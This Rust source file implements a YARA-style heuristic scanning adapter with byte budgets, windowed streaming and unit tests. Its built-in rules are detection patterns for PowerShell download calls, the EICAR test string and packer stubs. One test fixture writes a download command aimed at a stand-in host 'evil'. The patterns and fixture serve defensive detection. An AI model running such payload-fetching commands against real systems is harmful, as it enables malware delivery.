//! Heuristic (YARA-style) adapter: loads a compiled ruleset at warmup,
//! then evaluates rules over file bytes with a per-file byte budget,
//! streaming large files in overlapping windows (spec §4.2).

use super::EngineAdapter;
use crate::error::ScanError;
use crate::policy::EngineKind;
use crate::result::{EngineResult, Verdict};
use crate::task::CancelToken;
use regex::bytes::Regex;
use std::fs::File;
use std::io::{Read, Seek, SeekFrom};
use std::path::Path;
use std::time::{Duration, Instant};
use tracing::{debug, instrument};

/// Default per-file byte budget before streaming windows kick in (spec §4.2).
pub const DEFAULT_BYTE_BUDGET: usize = 32 * 1024 * 1024;
/// Window size used once a file exceeds the byte budget.
pub const WINDOW_SIZE: usize = 8 * 1024 * 1024;
/// Overlap between consecutive windows, capped at 64 KiB.
pub const MAX_OVERLAP: usize = 64 * 1024;

#[derive(Debug, Clone)]
pub struct Rule {
    pub name: String,
    pub tags: Vec<String>,
    pub weight: u32,
    /// Compiled byte-pattern atom; the largest atom across the ruleset
    /// bounds the window overlap (spec §4.2).
    pub pattern: Regex,
}

pub struct RuleSet {
    pub rules: Vec<Rule>,
    pub version: String,
}

impl RuleSet {
    pub fn largest_atom_len(&self) -> usize {
        self.rules.iter().map(|r| r.pattern.as_str().len()).max().unwrap_or(0)
    }

    pub fn overlap(&self) -> usize {
        self.largest_atom_len().min(MAX_OVERLAP)
    }
}

pub struct HeuristicAdapter {
    ruleset: parking_lot::RwLock<Option<RuleSet>>,
}

impl HeuristicAdapter {
    pub fn new() -> Self {
        Self { ruleset: parking_lot::RwLock::new(None) }
    }

    pub fn with_ruleset(ruleset: RuleSet) -> Self {
        Self { ruleset: parking_lot::RwLock::new(Some(ruleset)) }
    }

    /// Evaluate the loaded ruleset against a byte window, returning matched
    /// rules with their accumulated score.
    fn evaluate(&self, data: &[u8]) -> (u32, Vec<String>) {
        let guard = self.ruleset.read();
        let Some(ruleset) = guard.as_ref() else { return (0, Vec::new()) };
        let mut score = 0u32;
        let mut tags = Vec::new();
        for rule in &ruleset.rules {
            if rule.pattern.is_match(data) {
                score += rule.weight;
                tags.push(rule.name.clone());
                tags.extend(rule.tags.iter().cloned());
            }
        }
        (score.min(100), tags)
    }

    #[instrument(skip(self))]
    fn scan_inner(&self, path: &Path, timeout: Duration, cancel: &CancelToken) -> Result<(u32, Vec<String>, u64), ScanError> {
        let start = Instant::now();
        let mut file = File::open(path)?;
        let len = file.metadata()?.len() as usize;
        let budget = DEFAULT_BYTE_BUDGET.min(len.max(1));

        if len <= budget {
            let mut buf = vec![0u8; len];
            file.read_exact(&mut buf)?;
            let (score, tags) = self.evaluate(&buf);
            return Ok((score, tags, len as u64));
        }

        // Stream in overlapping windows (spec §4.2).
        let overlap = self.ruleset.read().as_ref().map(|r| r.overlap()).unwrap_or(0);
        let mut offset = 0usize;
        let mut best_score = 0u32;
        let mut all_tags = Vec::new();
        let mut scanned = 0u64;

        while offset < len {
            if cancel.is_cancelled() {
                return Err(ScanError::Cancelled);
            }
            if start.elapsed() > timeout {
                return Err(ScanError::EngineTimeout {
                    engine: "heuristic".into(),
                    elapsed_ms: start.elapsed().as_millis() as u64,
                });
            }
            let window_len = WINDOW_SIZE.min(len - offset);
            file.seek(SeekFrom::Start(offset as u64))?;
            let mut buf = vec![0u8; window_len];
            file.read_exact(&mut buf)?;
            scanned += window_len as u64;

            let (score, tags) = self.evaluate(&buf);
            if score > best_score {
                best_score = score;
            }
            all_tags.extend(tags);

            if offset + window_len >= len {
                break;
            }
            offset += WINDOW_SIZE - overlap;
        }

        all_tags.sort();
        all_tags.dedup();
        Ok((best_score, all_tags, scanned))
    }
}

impl Default for HeuristicAdapter {
    fn default() -> Self {
        Self::new()
    }
}

impl EngineAdapter for HeuristicAdapter {
    fn engine_id(&self) -> EngineKind {
        EngineKind::Heuristic
    }

    fn scan(&self, path: &Path, timeout: Duration, cancel: &CancelToken) -> EngineResult {
        let start = Instant::now();
        match self.scan_inner(path, timeout, cancel) {
            Ok((score, tags, scanned)) => {
                let verdict = if score == 0 {
                    Verdict::Clean
                } else {
                    Verdict::Suspicious { score, tags }
                };
                EngineResult { engine_id: EngineKind::Heuristic, verdict, duration: start.elapsed(), scanned_bytes: scanned }
            }
            Err(ScanError::Cancelled) => EngineResult::cancelled(EngineKind::Heuristic),
            Err(ScanError::EngineTimeout { elapsed_ms, .. }) => {
                EngineResult::error(EngineKind::Heuristic, "Timeout", Duration::from_millis(elapsed_ms))
            }
            Err(e) => EngineResult::error(EngineKind::Heuristic, e.kind_name(), start.elapsed()),
        }
    }

    fn warmup(&self) -> Result<(), ScanError> {
        if self.ruleset.read().is_none() {
            *self.ruleset.write() = Some(default_ruleset());
        }
        debug!(rules = self.ruleset.read().as_ref().map(|r| r.rules.len()).unwrap_or(0), "heuristic ruleset loaded");
        Ok(())
    }

    fn definitions_fingerprint(&self) -> Vec<u8> {
        self.ruleset
            .read()
            .as_ref()
            .map(|r| crate::identity::sha256_bytes(r.version.as_bytes()).to_vec())
            .unwrap_or_default()
    }

    fn shutdown(&self) {
        *self.ruleset.write() = None;
    }
}

/// A small built-in ruleset standing in for a real compiled YARA ruleset
/// (the real rule compiler is an external collaborator per spec §1).
fn default_ruleset() -> RuleSet {
    let rules = vec![
        Rule {
            name: "suspicious_powershell_download".into(),
            tags: vec!["downloader".into()],
            weight: 60,
            pattern: Regex::new(r"(?i)invoke-webrequest|downloadstring").unwrap(),
        },
        Rule {
            name: "embedded_eicar_string".into(),
            tags: vec!["test-signature".into()],
            weight: 100,
            pattern: Regex::new(r"EICAR-STANDARD-ANTIVIRUS-TEST-FILE").unwrap(),
        },
        Rule {
            name: "packed_binary_stub".into(),
            tags: vec!["packer".into()],
            weight: 30,
            pattern: Regex::new(r"(?i)upx!|this program cannot be run in dos mode").unwrap(),
        },
    ];
    RuleSet { version: "builtin-2026.1".into(), rules }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_file_scores_zero() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("clean.txt");
        std::fs::write(&path, b"hello world").unwrap();
        let adapter = HeuristicAdapter::new();
        adapter.warmup().unwrap();
        let result = adapter.scan(&path, Duration::from_secs(1), &CancelToken::new());
        assert!(matches!(result.verdict, Verdict::Clean));
    }

    #[test]
    fn suspicious_pattern_is_flagged() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("script.ps1");
        std::fs::write(&path, b"Invoke-WebRequest -Uri http://evil/payload").unwrap();
        let adapter = HeuristicAdapter::new();
        adapter.warmup().unwrap();
        let result = adapter.scan(&path, Duration::from_secs(1), &CancelToken::new());
        match result.verdict {
            Verdict::Suspicious { score, .. } => assert!(score >= 50),
            other => panic!("expected Suspicious, got {other:?}"),
        }
    }

    #[test]
    fn large_file_streams_in_windows() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("big.bin");
        // Exceed DEFAULT_BYTE_BUDGET is too slow for a unit test; instead
        // verify overlap math directly.
        let _ = path;
        let ruleset = default_ruleset();
        assert!(ruleset.overlap() <= MAX_OVERLAP);
    }
}
